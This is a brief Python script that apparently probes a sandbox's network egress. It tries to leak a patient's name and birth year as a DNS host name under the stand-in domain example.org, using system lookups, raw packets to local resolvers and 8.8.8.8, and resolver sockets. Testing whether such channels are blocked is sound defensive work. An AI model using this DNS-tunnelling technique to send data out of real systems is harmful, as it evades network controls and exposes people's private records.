# Tries to send a patient's name as a host name in a DNS query, which firewalls let through.
import os
import socket

from lead import tries

tries("libc", lambda: socket.getaddrinfo("miller-1961.example.org", 443))
tries("gethostbyname", lambda: socket.gethostbyname("miller.example.org"))
servers = (
    [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    if os.path.exists("/etc/resolv.conf")
    else []
)
for server in [*servers, "127.0.0.53", "8.8.8.8"]:
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end.settimeout(1)
    tries(
        f"resolver {server}",
        lambda: (end.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6miller\7example\3org\0\0\1\0\1", (server, 53)), end.recv(99)),
    )
tries("resolved", lambda: socket.socket(socket.AF_UNIX).connect("/run/systemd/resolve/io.systemd.Resolve"))
tries("nscd", lambda: socket.socket(socket.AF_UNIX).connect("/run/nscd/socket"))
